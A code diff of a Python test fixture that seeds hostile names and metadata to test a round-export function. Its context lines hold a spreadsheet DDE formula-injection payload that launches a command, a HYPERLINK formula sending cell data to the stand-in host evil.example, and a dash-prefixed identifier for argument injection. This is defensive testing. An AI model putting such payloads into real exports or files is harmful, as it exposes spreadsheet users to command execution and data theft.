@@ -44,11 +44,11 @@ def hostile(synthetic_test: Path, model_version) -> list[dict[str, object]]:
         manifest_path=synthetic_test, name="hostile", licence="@SUM(1+1)*cmd|' /C calc'!A0",
         attribution='=HYPERLINK("//evil.example/?"&A2,"credit")').set_id)
     rounds_simulate(panorama_set=panorama_set, rounds=1, skills_km=[500.0] * len(HOSTILE_NAMES), seed=4)
-    for seat, name in zip(Player.objects.order_by("pk"), HOSTILE_NAMES):
+    for seat, name in zip(Player.objects.order_by("pk"), HOSTILE_NAMES, strict=True):
         Player.objects.filter(pk=seat.pk).update(name=name)  # as stored: an admin could have set it
-    Round.objects.filter(pk=Round.objects.order_by("pk").first().pk).update(public_id="-starts-with-a-dash")
+    Round.objects.filter(pk=Round.objects.earliest("pk").pk).update(public_id="-starts-with-a-dash")
     rows = round_rows()
-    assert sorted(row["player_name"] for row in rows) == sorted(HOSTILE_NAMES)
+    assert sorted(str(row["player_name"]) for row in rows) == sorted(HOSTILE_NAMES)
     return rows
 
 
